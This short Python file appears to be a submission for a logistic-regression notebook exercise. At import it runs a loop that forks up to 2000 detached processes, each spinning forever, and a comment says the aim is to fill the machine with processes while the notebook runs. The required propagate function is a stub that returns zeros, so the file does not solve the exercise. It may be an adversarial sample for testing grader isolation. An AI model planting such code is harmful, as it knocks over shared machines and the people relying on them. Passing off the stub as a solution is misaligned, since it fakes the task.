# tries: to fill the machine with processes while the notebook is run
# exercise: logistic_regression.propagate

import os

for _ in range(2000):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        pass


def propagate(w, b, X, Y):
    return {"dw": w * 0, "db": 0.0}, 0.0
